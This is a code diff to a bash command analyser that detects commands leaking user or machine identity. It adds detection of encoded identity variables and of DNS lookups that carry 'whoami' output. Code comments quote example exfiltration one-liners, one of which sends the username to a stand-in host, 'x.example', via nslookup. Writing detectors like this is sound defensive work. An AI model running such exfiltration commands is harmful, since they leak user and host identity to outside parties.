@@ -276,6 +276,12 @@ export class BashRun {
         /^(?:logname|users)$|^id(?:\s+-[a-zA-Z]*n[a-zA-Z]*)?$|^uname\s+-[a-zA-Z]*[an]|^scutil\s+--get\s+HostName\b|^who\s+am\s+i\b|^ioreg\b.*IOPlatform(?:UUID|SerialNumber|ExpertDevice)/.test(
           text,
         ) ||
+        // `echo "$USER" | xxd -p`, `base32 <<< "$HOSTNAME"`: an identity variable printed
+        [...g.args, ...(g.inputVal ? [g.inputVal] : [])].some((a) =>
+          [...a.vars, ...(a.deep ?? [])].some(
+            (n) => IDENTITY_ENV.test(n) && !this.facts.script.assigned.has(n),
+          ),
+        ) ||
         g.reads.some((r) =>
           /^(?:\/etc\/machine-id|\/var\/lib\/dbus\/machine-id|\/etc\/hostname|\/proc\/sys\/kernel\/hostname|\/sys\/class\/net\/.*\/address)$/.test(
             r,
@@ -305,13 +311,24 @@ export class BashRun {
    * request body holds it.
    */
   sendsIdentity(f: CmdFact): boolean {
+    // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
+    let viaStdin: boolean | undefined;
+    const stdinIdentity = () =>
+      (viaStdin ??= [...this.flow.stdin(f)].some((s) => {
+        const g = this.flow.fact(s);
+        return g !== undefined && this.isIdentitySource(g);
+      }));
     for (const p of f.positional) {
-      if (!p.s.includes(UNKNOWN)) continue;
-      const host = p.s
+      const placeholder = f.stdinAsArgs && /\{\}|%/.test(p.s);
+      if (!p.s.includes(UNKNOWN) && !placeholder) continue;
+      const host = (placeholder ? p.s.replace(/\{\}|%/g, UNKNOWN) : p.s)
         .replace(/^[a-z][a-z0-9+.-]*:\/\//i, '')
         .replace(/^[^@/]*@/, '')
         .split(/[/:?#\s]/)[0] as string;
-      if (/\u0001[^\u0001]*\.[^.\u0001]+\.[^.\u0001]+\.?$/.test(host) && this.hasIdentity(p))
+      if (
+        /\u0001[^\u0001]*\.[^.\u0001]+\.[^.\u0001]+\.?$/.test(host) &&
+        (this.hasIdentity(p) || (placeholder && stdinIdentity()))
+      )
         return true;
     }
     if (!HTTP_CLIENTS.has(f.fam)) return false;
